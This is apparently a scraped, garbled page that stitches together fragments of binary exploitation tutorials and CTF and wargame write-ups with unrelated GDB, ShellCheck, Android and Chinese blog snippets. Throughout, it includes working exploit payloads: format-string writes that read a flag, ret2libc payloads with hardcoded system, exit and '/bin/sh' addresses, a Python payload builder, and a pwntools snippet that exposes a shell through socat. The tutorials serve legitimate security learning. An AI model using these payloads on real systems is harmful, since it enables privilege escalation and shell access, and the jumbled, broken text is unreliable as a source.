<__dso_handle+3>: add BYTE PTR [eax],al 0x080497a5 <stdin@@GLIBC_2.0+1>: add BYTE PTR [eax],al 0x080497a7 <stdin@@GLIBC_2.0+3>: add BYTE PTR [eax],al End of assembler dump. Objdump reflects the same (notice the +1) GOTaddress:
  2. Notice that I’ve executed two unset env commands. The two environment variables, LINES and COLUMNS are gdb specific and do not exist in a non-gdb environment. They end up messing up the memory addresses (because they're assigned memory as well) and cause our shellcode to work only inside gdb and not outside it.
  3. It is assumed that you already understand the normal exploiting techniques, so make sure you already understand the following topics:
  4. pico1139@shell:/home/format$: env -i ./format $:`(python -c 'print "\x30\xa0\x04\x08"+"%1333u%103`\ nAA"') $ id uid=11066(pico1139) gid=1008(format) groups=1017(picogroup) $ ls Makefile flag.txt format format.c $ cat flag.txt who\_thought\_%n\_was\_a\_good\_idea? Otherwise as the address at theseventh is already present on stack we can also do
  5. printf ("%s%s%s%s%s%s%s%s%s%s%s%s"); Because ‘%s’ displays memory from an address that is supplied on the stack, where a lot of other data is stored, too, our chances are high to read from an illegal address, which is not mapped.
  6. We can’t use /proc/$pid/map since some servers forbid it. This breaks info proc in GDB, but info sharedlibrary stillworks. Additionally, info sharedlibrary works on FreeBSD, which may not have procfs enabled or accessible.
  7. # Attach directly to pid 1234 gdb.attach(1234) # Attach to the youngest "bash" process gdb.attach('bash') # Start a process bash = process('bash') # Attach the debugger gdb.attach(bash, ''' set follow-fork-mode child break execve continue ''') # Interact with the process bash.sendline('whoami') # Start a forking server server = process(['socat', 'tcp-listen:1234,fork,reuseaddr', 'exec:/bin/sh']) # Connect to the server io = remote('localhost', 1234) # Connect the debugger to the server-spawned process gdb.attach(io, ''' break exit continue ''') # Talk to the spawned 'sh' io.sendline('exit') # Connect to the SSH server shell = ssh('bandit0', 'bandit.labs.overthewire.org', password='bandit0', port=2220) # Start a process on the server cat = shell.process(['cat']) # Attach a debugger to it gdb.attach(cat, ''' break exit continue ''') # Cause `cat` to exit cat.close() pwnlib.gdb.binary() → str[source]¶ Returns:str – Path to the appropriate gdb binary to use. Example

Return-to-libc Exploit - ka1d0 - Medium Finding the address of /bin/sh

cat <(python -c 'print "\x00"*140+"\x50\x82\xe6\xf7"+ "\x00"*4+"\x4c\x6c\xf8\xf7"') - | ./rop3 Done!All values are interpreted in the current language. This means, for example, that if the current source language is C/C++ then searching for the string “hello” includes the trailing ’\0’. The null terminator can be removed from searching by using casts, e.g.: ‘{char[5]}"hello"’. for(i=0; blah[i] != '\0'; i++) It now copies the character from 0xffffd890 reference i.e 0xffffd890 + i value. Suppose it copied the character 0x41. The address becomes 0xffff4190 and now for loop searches from that address until a null character is found.

So to get the adress of system, we will be using gdb, for the length of the buffer we will just mess around a bit until we find it (use gdb or something like that) It's probably at 260 anyway and for the You can find /bin/sh in libc actually. SinceASLR is off, you can do the following to calculate its offset For example, we can use info line to discover the location of the object code for the first line of function m4_changequote:

Debugging with gdb - Examining Source File

Well as you can see we’ve now exploited a trivial program. Ofcourse you’d probably never encounter a program compiled with these flags, but that was not the point here. The reason this won’t work nowadays are two techniques used in almost every compiler / OS nowadays: GDB will give you some tasty information now - in your command prompt, you should see the old value and new value of coins. You'll also be given the real GDB is not attaching when I use the app binary name - why? Using the binary name doesn't always work. To get the processor ID, quit GDB by.. # `python -c 'print "A"*20 + "\x90\x90\x90\x90" + "A"*12 + "BBBB"'` Let’s see what happens when we do this. After copying 20 A it copies x90 and makes blah pointer from 0xffffd8bf to0xffffd890. Because of the for loopThis article will show you that how to attack C program by using buffer overflow and return to Libc method to pop a bash shell.

Get System, exit and /bin/sh addresses - Sp

1461: 0003ab40 55 FUNC WEAK DEFAULT 13 system@@GLIBC_2.0 141: 0002e7f0 33 FUNC GLOBAL DEFAULT 13 exit@@GLIBC_2.0 15cdc8 /bin/sh Creation of exploit¶ Now, when we have the offset, let’s take a sample libc address and create the exploit Getting started with GDB. GDB, the GNU Debugger, is a free software portable debugger that supports multiple languages including C, C++, Go, Fortran and Java. If it doesn't come as part of your GNU/Linux distro, you can install the package gdb from its official repository. Windows users will have to rely on.. With the help of a hardware unit, let’s call it instruction memory, the instruction bytes are fetched from the memory being pointed by EIP. During that stage, it computes the address of the next instruction (and a bunch of other stuff as well), let’s call itvalNextAddr, which will be the addition between the current instruction offset and its size, aka EIP + sizeof(fetched_instruction). It’s important to note thatthis calculation is done before the completion of the instruction. That valNextAddr is being generated as a signal through the combination logic. This is a very brief introduction into compiling ARM binaries and basic debugging with GDB. As you follow the tutorials, you might want to follow along and experiment with ARM assembly on your own. Personally, I prefer using GEF as a GDB extension. It gives me a better overview and useful features Binaries, or executables, are machine code for a computer to execute. For the most part, the binaries that you will face in CTFs are Linux ELF files or the occasional windows executable. Binary Exploitation is a broad topic within Cyber Security which really comes down to finding a vulnerability in the program and exploiting it to gain control of a shell or modifying the program’s functions.

Exploiting Techniques \000 - ret2libc - Exploit Development - 0x00sec

The buffer overflow and resulting arbitrary code execution occurs on the process stack. The function of DEP is to prevent execution on the stack. Simple enough? Well, it IS simple but not sufficient to stop an attacker.1337_P455W0RD 1337_P455W0RD\0aa\x7f\x87\x04\x08 aa\x7f\x87\x04\x08 We use this in the command line to get the flagThe debugger is attached automatically, and you can debug everything from the very beginning. This requires that both gdb and gdbserver are installed on your machine.It’s better to use /bin/sh instead of /bin/bash since bash drops privs. If /bin/bash is used, it will launch /bin/bash but you’ll find that you haven’t elevated your privileges and this can get confusing. so either find another string that points to /bin/sh or set your own env variable like DASH=/bin/sh and reference that. Good paper to review is Bypassing non-executable-stack during Exploitation (return-to-libc) and Performing aret2libc Attack

The hex codes — \x94 , \xbf\xff\xea\x68 , and \xzz were placed because of the program implementation restrictions. They are completely unrelated to the principle of return-to-libc exploit. You don't have to worry about them; you can replace them with randomhex codes.You should pass the pointer to /bin/sh. How are you calculating sh’s address on the stack? If you’re using gdb to find that out, then that’s your mistake. The stack alignment/padding inside and outside of gdb is different (environment variables etc). That being said, you can either use pwntools as I said in order to attach to the process and calculate the address properly, or do it the proper way which is via libc, which is why 0xffffd144 didn’t look like libc to me. You can find /bin/sh in libc actually. Since ASLR isoff, you can do the following to calculate its offset.behemoth3@melinda:/tmp/rahul3$ echo `python -c 'print "A"*4 + ".%08x"*7'` | ./behemoth3 Identify yourself: Welcome, AAAA.000000c8.f7fcac20.00000000.00000000.f7ffd000.41414141.3830252e aaaand goodbye again. Trying simple format string provided us with the offset of our format string. Now we can write almost any address with any value with our input. Before that let’s put a environment variable shellcode and check it’s address:Let’s start with some basic concepts and then we would see some examples which would help to clear the concepts.The NOP sled is going to stretch from the start of the buffer until the start of the returnaddress. It must be noted here that any random character can be used instead of NOPs; you don’t need to use a NOP specifically. NOPs are especially useful when the flow is returned to them causing the CPU to slide all the way to the shellcode.

pwnlib.gdb — Working with GDB —pwntools 4.0.1 documentatio

ShellCheck is an open source static analysis tool that automatically finds bugs in your shell scripts. #!/bin/sh ## Example: a typical script with several problems for f in $(ls *.m3u) do grep -qi hq.*mp3 $f ShellCheck. finds bugs in yourshell scripts. You can cabal, apt, dnf, pkg or brew install it locally.. In 32-bit binaries on Linux, function arguments are passed in on the stack in reverse order. A function like this:export EXPLOIT="/home2/user1792/rop4s.sh" /* printer.c */#include <stdio.h> #include <stdlib.h> int main(int argc, char **argv) { printf("\n%p\n\n", getenv("EXPLOIT")); return(0); } Running that we get: 0xffffd830 as our address. Alright, lets use that instead of our 3rd "/bin/sh": (overflow) (execlp) (fakereturn) ("/bin/sh")(two times) (EXPLOIT address) (null)$ ./flagXX -h Usage: php [options] [-f] <file> [--] [args...] php [options] -r <code> [--] [args...] Binary Protection¶ Multiple Buffer overflow prevention techniques such as RELRO, NoExecute (NX), Stack Canaries, Address Space Layout Randomization (ASLR) and Position Independent Executables (PIE).

Set up environment with the envsetup.sh command. The script sets up port forwarding, starts the appropriate gdbserver on the device, starts the appropriate gdb on the host, configures gdb to find symbols adb shell gdbserver64 :5039 /system/bin/MY_TEST_64_BIT_APP. For a 32-bit executabl by the way,find a thread about debug andriod so file with ida http Could not set the shlib bpt, shared object events will not be handled B0001000: loaded /system/bin/linker 8000: process only don't stop tool long,in the time i write ,os kill update app for time out. this is gdb debug server in android ndk r8c.. 关于-/bin/sh: 命令:notfound的解决办法. sh: 1: 7zr: not found问题. 09-25 阅读数 2600. 貌似Ubuntu默认不能解压.7z文件7-Zip 是基于 GNU LGPL 之下发布的软件可以在网上下载一个7-zip,其软件包名为p7zip命令如下:sudo apt-get install p7z... 博文 来自: 瑜

linux - How to know if gdb is installed? - Super Use1. Humans make mistakes. Some of these mistakes may end up being part of your OS. Since bugs are more difficult to find than to fix, this page provides a list of common techniques that can be used to isolate bugs in your OS
  2. readIn the previous post, we had a look at a basic, yet widespread vulnerability — Integer Overflow. We got a feel for how dangerous such simple program
  3. The shellcode that I had to construct for my target is a littlecomplicated because of certain “lucky” restrictions in the program implementation. Here’s the shell code that I had to use:
  4. >>> (7,0) <= gdb.version() <= (9,0) True Next Previous © Copyright 2016, Gallopsled et al. Revision 3d4853f9.
  5. kr@k3n@ubuntu:~/target$ python3 addr.pyTrying: \x00Segmentation fault (core dumped)35584Trying: \x01Segmentation fault (core dumped)355846. How do I ensure that /bin/sh is properly liked to bash? To be honest I don't exactly understand the point of this (something to do with how scripts execute in each shell?) and never really think about inodes. Maybe this will give additional inf
  7. for i in {1..256};do echo -n "Offset: $i:"; env -i ./format AAAA%$i\$x;echo ;done | grep 4141 What this is doing is “Extracting particular stack content by “%$i$x”. As we have seen in DMA, $x can be used to extract particular stack content and reading it. $i value changes from 1-256. However, as you add more data, the offset of your original input changes, so go ahead and add 1333 more bytes of data and see what the offset is then. (1337 is what we want to put into secret, and we will have written four bytes (AAAA), so 1333+4 = 1337)

Non-Executable Stack, ASLR Enabled¶

/usr/share/framework2/msfelfscan -f stack7 Usage: /usr/share/framework2/msfelfscan <input> <mode> <options> Inputs: -f <file> Read in ELF file Modes: -j <reg> Search for jump equivalent instructions -s Search for pop+pop+ret combinations -x <regex> Search for regex match -a <address> Show code at specified virtual address Options: -A <count> Number of bytes to show after match -B <count> Number of bytes to show before match -I address Specify an alternate base load address -n Print disassembly of matched data We can use msfelfscan to get pop-pop-retun, choose that address and useprintf ("AAA0AAA1_%08x.%08x.%08x.%08x.%08x"); The ‘%08x’ parameters increase the internal stack pointer of the format function towards the top of the stack. After more or less of this increasing parameters the stack pointer points into our memory: the format string itself. The format function always maintains the lowest stack frame, so if our buffer lies on the stack at all, it lies above the current stack pointer for sure. If we choose the number of ‘%08x’ parameters correctly,we could just display memory from an arbitrary address, by appending ‘%s’ to our string. In our case the address is illegal and would be ‘AAA0’. Lets replace it with a real one. Example:

pdisass main Examining Memory¶ We can use the command x (for “examine”) to examine memory in any of several formats, independently of your program’s data types. GDB , Copyright 1995 Free Software Foundation, Inc... (gdb). GDB reads only enough symbol data to know where to find the rest when needed; as Otherwise GDB uses /bin/sh. The utility make is often needed in development environments. You do not have to use the shell command for this purpose in.. (gdb) run arg1 arg2. If application is already running, find out its pid (ps, top, pidof,) and: $ gdb --pid $PID. Tips. Run crosscompiled gdb on host (<gcc_toolchain_path>/bin/arm-none-linux-gnueabi-gdb Issue the following commands (multiprocess example

Behaviour of the format function¶

In computer architecture, the stack is a hardware manifestation of the stack data structure (a Last In, First Out queue).I’m away currently, but from a really quick look it looks like once you overflow the buffer up until the return address, you’ve entered system’s address, which is correct and then you place sh’s address on top of it, which is wrong. Then you place 0xffffd144 (no idea what that address is, but it’s definitely not a /bin/sh address), which is where sh’s address should be placed.

Exploit Development: How to Defeat a Non-Executable Stack

64-bit Linux stack smashing tutorial: Part 2 - Techorganic - Musings

narnia8@melinda:/narnia$ ./narnia8 `python -c 'print "A"*20 + "\x28\xd8\xff\xff" + "B"*12 + "\xd4\xd8\xff\xff"'` narnia8@melinda:/narnia$ ./narnia8 `python -c 'print "A"*20 + "\x28\xd8\xff\xff" + "B"*12 + "\xd4\xd8\xff\xff"'`| hexdump 0000000 4141 4141 4141 4141 4141 4141 4141 4141 0000010 4141 4141 4128 ffff 0a02 000001a Changing 28 to 0a just by chance gave me the correct address to be pointed at (gdb) next 18 double xpow=1; (gdb) n 20 for (int k = 0; k <= n; k++) { (gdb) 21 seriesValue += xpow / ComputeFactorial(k) ; (gdb) s ComputeFactorial (number=0) at broken.cpp:7 7 int fact=0; Here we use the next command, which is similar to step except it will step over (instead of into) functions So now let’s exploit this program to spawn a shell. The function we’ll be using is in libc and you might have used it once or twice: system() System is nice, because it takes only one argument, a string being the command you which to execute (for more info man 3 system ) import struct system_addr = struct.pack("<I", 0xf7e3f310) arg_addr = struct.pack("<I", 0xf7f61bac) exit_addr = struct.pack("<I", 0xf7e0d1db) buf = "A" * 112 buf += system_addr buf += exit_addr buf += arg_addr print buf As I mentioned, ALSA is open. We need temporary close it by using:

Debugging with GDB - Running Programs Under GDB

Crashing the Program¶

Below is a table of GDB commands with the LLDB counterparts. The built in GDB-compatibility aliases in LLDB are also listed. The full lldb command names are often long, but any unique short form can be used. Instead ofbreakpoint set, br se is also acceptable (gdb) break main (gdb) run (gdb) print &system $1 = (<text variable, no debug info> *) 0xf7e68250 <system> (gdb) find &system,+9999999,"/bin/sh" 0xf7f86c4c warning: Unable to access target memory at 0xf7fd0fd4, halting search. 1 pattern found. Now we have the string "/bin/sh" at 